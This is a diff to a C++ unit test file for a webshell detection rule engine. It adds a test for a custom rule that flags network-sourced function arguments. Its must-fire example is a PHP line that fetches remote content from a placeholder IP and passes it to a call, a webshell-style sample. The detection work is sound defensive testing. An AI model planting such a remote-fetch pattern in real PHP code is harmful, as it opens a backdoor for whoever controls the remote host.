@@ -3,6 +3,7 @@
 #include <gtest/gtest.h>
 
 #include "mini_root.hpp"
+#include "php_analysis.hpp"
 #include "rescue/detect/rule_check.hpp"
 #include "rule_examples.hpp"
 
@@ -105,6 +106,19 @@ TEST(OwnRules, StandBesideTheShippedOnesAndFire) {
   EXPECT_EQ(fires(*book, rule, rule.must_fire[0], one), true);
   EXPECT_EQ(fires(*book, rule, rule.must_not_fire[0], other), false);
   EXPECT_EQ(book->all().size(), RuleBook::shipped().all().size() + 1);
+}
+
+TEST(OwnRules, FireAlsoWhereNoWordOfTheShippedOnesStands) {
+  auto json = valid_rule();
+  json["id"] = "webshell.own_call";
+  json["match"] = {{"from", {"network"}}, {"arguments", {{"own_call", {0}}}}};
+  json["examples"] = {{"must_fire", {"<?php own_call(file_get_contents('http://198.51.100.7/x'));"}},
+                      {"must_not_fire", {"<?php own_call('x');"}}};
+  const auto book = with_own(json);
+  ASSERT_TRUE(book) << book.error().detail;
+  EXPECT_EQ(check_examples(*book, book->rule("webshell.own_call")), std::vector<std::string>{});
+  EXPECT_FALSE(php_words_are_enough(*book));
+  EXPECT_TRUE(php_words_are_enough(RuleBook::shipped()));
 }
 
 TEST(OwnRules, AreToldWhichOfTheirExamplesDoNotHold) {
